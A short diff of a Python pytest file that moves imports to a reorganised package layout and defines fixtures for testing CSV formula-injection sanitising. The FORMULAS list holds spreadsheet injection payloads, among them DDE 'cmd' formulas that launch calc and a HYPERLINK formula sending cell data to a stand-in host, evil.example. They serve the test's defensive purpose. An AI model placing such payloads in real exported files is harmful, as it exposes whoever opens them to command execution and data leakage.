@@ -9,14 +9,14 @@ import os
 
 import pytest
 
-from edge.clock import boot_id, mono_ns, wall_ms
+from edge.common.clock import boot_id, mono_ns, wall_ms
+from edge.entries.store import Entry, EntryStore
 from edge.lists import ListStore
-from edge.store import Entry, EntryStore
 
 from .conftest import run_checkpoint
 
 LINES = '[source]\ntype = "lines"\npath = "{path}"\n'
-# (A leading CR is neutralised by csv_cell too, but edge/export.py's writer leaves a CR unquoted, which no
+# (A leading CR is neutralised by csv_cell too, but edge/entries/export.py's writer leaves a CR unquoted, which no
 # CSV reader reads back: that is the writer's to fix, and the pipeline records no raw control character.)
 FORMULAS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "-2+3+cmd|' /C calc'!A0",
             "\tx", "=1+2"]
